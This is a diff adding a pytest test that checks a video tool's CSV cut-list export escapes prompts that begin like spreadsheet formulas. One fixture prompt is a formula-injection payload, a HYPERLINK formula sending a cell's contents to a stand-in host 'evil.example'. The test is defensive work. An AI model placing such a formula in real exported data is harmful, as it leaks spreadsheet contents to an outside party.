@@ -12,7 +12,7 @@ import pytest
 
 from runner.export import ExportResult, clip_name, export_cut, find_ffmpeg
 from runner.store import Store
-from tests.review.conftest import SIM_CLIP, Batch
+from tests.review.conftest import SIM_CLIP, Batch, MakeBatch
 
 FFMPEG = find_ffmpeg()
 FFPROBE = shutil.which("ffprobe")
@@ -167,6 +167,40 @@ def test_cut_list_has_the_columns_and_one_row_per_shot(batch: Batch, tmp_path: P
         "seconds": "4",
         "prompt": "Ocean waves rolling onto a sandy beach at golden hour",
     }
+
+
+FORMULA_PROMPTS = """\
+version: 1
+defaults: {seconds: 4}
+shots:
+  - {id: s01, prompt: '=HYPERLINK("http://evil.example/?q="&A1, "click")'}
+  - {id: s02, prompt: "+1+2"}
+  - {id: s03, prompt: "-2+3"}
+  - {id: s04, prompt: "@SUM(1,2)"}
+  - {id: s05, prompt: "\\t=1+1"}
+  - {id: s06, prompt: "\\r=1+1"}
+  - {id: s07, prompt: "waves = foam, 1+1"}
+"""
+
+
+def test_cut_list_writes_prompts_that_start_like_a_formula_as_text(
+    make_batch: MakeBatch, tmp_path: Path
+) -> None:
+    """A prompt starting with =, +, -, @, tab or CR gets a leading quote; others are as is."""
+    batch = make_batch(FORMULA_PROMPTS)
+    for shot in batch.manifest.shots:
+        batch.done(shot.id, 1)
+    to = tmp_path / "cut"
+    export(batch, to, animatic=False)
+    assert [row["prompt"] for row in rows(to)] == [
+        '\'=HYPERLINK("http://evil.example/?q="&A1, "click")',
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(1,2)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "waves = foam, 1+1",
+    ]
 
 
 def test_a_shot_without_a_finished_take_is_listed_with_an_empty_file(
